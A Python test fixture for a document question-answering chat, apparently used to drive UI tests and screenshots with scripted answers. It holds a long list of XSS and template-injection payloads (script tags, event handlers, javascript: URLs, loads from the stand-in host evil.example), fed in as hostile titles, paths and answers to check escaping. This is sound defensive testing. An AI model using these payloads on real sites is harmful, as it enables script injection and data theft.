"""A library whose answers are written by hand: for the chat's tests and its screenshots."""

from __future__ import annotations

import threading
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

from qa.documents import DocumentFile
from qa.errors import DocumentError, ModelUnavailableError
from qa.index import UpdateReport
from qa.llms import Deadline
from qa.settings import Settings
from qa.types import (
    Answer,
    AnswerReady,
    Citation,
    Claim,
    Document,
    DraftText,
    Event,
    EvidenceFound,
    Hit,
    ModelFailure,
    Passage,
    Sentence,
    Turn,
)

PAYLOADS = (
    "<script>window.hit=1</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script/x>window.hit=1</script/x>",
    "<<script>window.hit=1//<</script>",
    "</script><script>window.hit=1</script>",
    "<script type=module>import '//evil.example/x.mjs'</script>",
    "<img src=//evil.example/i.png onerror=window.hit=1>",
    '<img src=x onerror="window.hit=1">',
    "<img/src=x/onerror=window.hit=1>",
    "<img srcset='//evil.example/a.png 2x'>",
    "<IMG SRC=`javascript:window.hit=1`>",
    "<img src='x' onerror='window.hit=1' \x00>",
    '"><svg onload=window.hit=1>',
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><use href='//evil.example/x.svg#a'></use></svg>",
    "<svg><image href='//evil.example/x.png'/></svg>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></mtext></math>",
    "<math href='javascript:window.hit=1'>x</math>",
    "'><iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src='javascript:parent.hit=1'></iframe>",
    "<iframe src='data:text/html,<script>parent.hit=1</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=//evil.example><button>x</button></form>",
    "<form><button formaction=javascript:window.hit=1>x</button></form>",
    "<input autofocus onfocus=window.hit=1>",
    "<select autofocus onfocus=window.hit=1></select>",
    "<textarea autofocus onfocus=window.hit=1></textarea>",
    "<keygen autofocus onfocus=window.hit=1>",
    "<a href=javascript:window.hit=1>x</a>",
    "<a href='JaVaScRiPt:window.hit=1'>x</a>",
    "<a href='&#106;avascript:window.hit=1'>x</a>",
    "<a href='java\tscript:window.hit=1'>x</a>",
    "<a href=//evil.example ping=//evil.example/p>x</a>",
    "<area href=javascript:window.hit=1>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<link rel=preconnect href=//evil.example>",
    "<style>@import '//evil.example/y.css'</style>",
    "<style>*{background:url(//evil.example/z.png)}</style>",
    "<div style='background:url(//evil.example/d.png)'>x</div>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<video src=//evil.example/v.mp4 onerror=window.hit=1></video>",
    "<video poster=//evil.example/p.png></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<source src=x onerror=window.hit=1>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<body onload=window.hit=1 onpageshow=window.hit=1>",
    "<p onmouseover=window.hit=1 style=position:fixed;inset:0>x</p>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'></noscript>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[<img src=x onerror=window.hit=1>]]>",
    "' onmouseover='window.hit=1' autofocus onfocus='window.hit=1",
    '" onmouseover="window.hit=1" autofocus onfocus="window.hit=1',
    "` onmouseover=`window.hit=1",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    "%3Cimg src=x onerror=window.hit=1%3E",
    "\\u003cimg src=x onerror=window.hit=1\\u003e",
    "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "![x](http://evil.example/m.png)",
    "[x](javascript:window.hit=1)",
    "[x]: http://evil.example/ 'y'",
    "<http://evil.example/auto>",
    "$\\href{javascript:window.hit=1}{x}$ $$\\includegraphics{//evil.example/x}$$",
    "```mermaid\ngraph TD; A-->B; click A href 'javascript:window.hit=1'\n```",
    "${window.hit=1}",
    "{{constructor.constructor('window.hit=1')()}}",
    "{{#with value}}{{lookup this 'constructor'}}{{/with}}",
    "@children {{{value}}} ${(()=>{window.hit=1})()}",
    "`${window.hit=1}`",
    "javascript:window.hit=1",
    "\U0001f4a5 \u202e<gpj.x=crs gmi>\u202c",
    "__proto__ constructor toString [1] [99] [1][2]",
)
# What a field takes and shows as it is: no line breaks, nothing invisible.
EVIL = " ".join(payload for payload in PAYLOADS[::3] if payload.isprintable())

QUOTE = "The tide rose by 12 cm."
TIDES = Document(
    "sea/tides.txt",
    "Tides of Ålesund",
    f"Tides 🌊\n\n{QUOTE} Nobody saw it. {QUOTE}\n\n" + "The moon was late. 🌊\n\n" * 40,
    "2024-05-01",
    "0" * 64,
)
LONG = Document(
    "long.txt",
    "A long report",
    "".join(f"Line {number} of the — report.\n" for number in range(300_000)),
    None,
    "1" * 64,
)
HOSTILE = Document(f"{EVIL}.txt", EVIL, f"{EVIL} One two three.", EVIL, "2" * 64)
DOCUMENTS = {document.path: document for document in (TIDES, LONG, HOSTILE)}
EACH_PAYLOAD = {
    f"{number} {payload}": Document(
        f"{number} {payload}", payload, f"{payload} One two three.", payload, f"{number:064}"
    )
    for number, payload in enumerate(PAYLOADS)
}


def cited(number: int, document: Document, start: int, end: int) -> Citation:
    quote = document.text[start:end]
    return Citation(
        number, document.path, document.title, document.date, start, end, quote, 1 - number / 10
    )


def located(number: int, document: Document, start: int, end: int) -> Passage:
    sentence = Sentence(document.path, number, start, end, document.text[start:end])
    return Passage(number, sentence, document.title, document.date, 0.5)


SECOND = TIDES.text.rindex(QUOTE)
SEEN = TIDES.text.index("Nobody saw it.")
FAR = LONG.text.index("Line 250000 of")
CITATIONS = (
    cited(1, TIDES, SECOND, SECOND + len(QUOTE)),
    cited(2, TIDES, SEEN, SEEN + 14),
    cited(3, LONG, FAR, FAR + 28),
)
PASSAGES = tuple(
    located(citation.number, DOCUMENTS[citation.document], citation.start, citation.end)
    for citation in CITATIONS
)
CLAIMS = (
    Claim("It rose by 12 cm.", (1,), 0.9, "supported", "All numbers are in the quote."),
    Claim("Nobody saw it.", (2,), 0.8, "supported"),
    Claim("It was told in Busan.", (), 0.1, "unsupported", "“Busan” isn't in the quotes."),
)


class WrittenLibrary:
    """Answers from a script; a question with "wait" in it waits after its draft.

    A follow-up that is "puzzling" waits before it is understood.
    """

    root = Path("/home/ada/papers & <b>notes</b>")
    documents = DOCUMENTS
    model_name = "reader (by hand)"
    further_models: tuple[str, ...] = ()
    passages = PASSAGES
    citations = CITATIONS

    settings = Settings(home=Path("/nonexistent"))
    report = UpdateReport((), (), (), tuple(DOCUMENTS), (), (), (), None, 0.0)
    files = tuple(DocumentFile(path, len(DOCUMENTS[path].text), 0) for path in DOCUMENTS)

    def __init__(self) -> None:
        self.histories: list[Sequence[Turn]] = []
        self.asked: list[str] = []
        self.chosen: list[Settings | None] = []
        self.models: list[str | None] = []
        self.may_end = threading.Event()
        self.closed = threading.Event()
        self.problem: str | None = None

    def stream(
        self,
        question: str,
        history: Sequence[Turn] = (),
        *,
        settings: Settings | None = None,
        model: str | None = None,
        quotes_only: bool = False,
        deadline: Deadline | None = None,
    ) -> Iterator[Event]:
        problem = self.model_problem(0, model)
        if quotes_only or problem:
            joined = f"{history[-1].question} {question}" if history else None
            yield EvidenceFound(joined, self.passages)
            failure = ModelFailure(problem, lasting=True) if problem and not quotes_only else None
            yield AnswerReady(self._quoted(question, failure and failure.reason), failure)
            return
        self.histories.append(history)
        self.asked.append(question)
        self.chosen.append(settings)
        self.models.append(model)
        self.closed.clear()
        if history:
            yield EvidenceFound(None, self.passages[:2], provisional=True)
            while "puzzling" in question and not self.may_end.wait(0.05):
                pass
        try:
            yield from self._events(question, "How high was the tide?" if history else None)
        finally:
            self.closed.set()

    def _quoted(self, question: str, problem: str | None) -> Answer:
        quote = self.citations[0].quote
        claim = Claim(quote, (1,), 0.0, "quoted")
        notes = ("No language model could be used: these are the closest sentences.",)
        return Answer(
            question=question,
            status="answered",
            text=f"{quote} [1]",
            claims=(claim,),
            citations=(replace(self.citations[0], support=0.0),),
            evidence=self.passages,
            timings={"total": 0.1},
            model="none",
            fingerprint="abc",
            extractive=True,
            notes=(problem, *notes) if problem else notes,
        )

    @property
    def model_names(self) -> tuple[str, ...]:
        return (self.model_name, *self.further_models)

    def model_problem(self, seconds: float, model: str | None = None) -> str | None:
        return self.problem if model not in self.further_models else None

    def search(self, question: str, limit: int = 10) -> tuple[Hit, ...]:
        return ()

    def refresh(self, progress: object = None) -> UpdateReport:
        return self.report

    def changes(self) -> tuple[str, ...]:
        return ()

    def look_again(self) -> tuple[str, ...]:
        return ()

    def add(self, name: str, file: Path) -> str:
        raise DocumentError("Nothing can be added here.")

    def remove(self, path: str) -> Path:
        raise DocumentError("Nothing can be removed here.")

    def _events(self, question: str, understood: str | None) -> Iterator[Event]:
        if "down" in question:
            raise ModelUnavailableError("The model at host doesn't answer. Start it again.")
        yield EvidenceFound(understood, PASSAGES)
        if "fault" in question:
            raise RuntimeError("secret detail")
        made: dict[str, Any] = {
            "question": question,
            "evidence": PASSAGES,
            "timings": {"total": 0.5},
            "model": self.model_name,
            "fingerprint": "abc",
            "standalone_question": understood,
        }
        if "unknown" in question:
            text = "The documents don't say."
            yield AnswerReady(
                Answer(status="not_found", text=text, claims=(), citations=(), **made)
            )
            return
        if "<script>" in question:
            end = len(HOSTILE.text)
            made["evidence"] = (located(1, HOSTILE, 0, end),)
            yield DraftText(EVIL)
            claims = (
                Claim(EVIL, (1,), 0.9, "supported", EVIL),
                Claim(EVIL, (), 0.1, "unsupported", EVIL),
            )
            citations = (cited(1, HOSTILE, 0, end),)
            yield AnswerReady(
                Answer(
                    status="partial",
                    text=f"{EVIL} [1]",
                    claims=claims,
                    citations=citations,
                    notes=(EVIL,),
                    **made,
                )
            )
            return
        yield DraftText("It rose ")
        yield DraftText("by 12 cm")
        while "wait" in question and not self.may_end.wait(0.05):
            yield DraftText("…")
        text = "It rose by 12 cm [1]. Nobody saw it [2]. The report says so [3]."
        yield AnswerReady(
            Answer(status="partial", text=text, claims=CLAIMS, citations=CITATIONS, **made)
        )
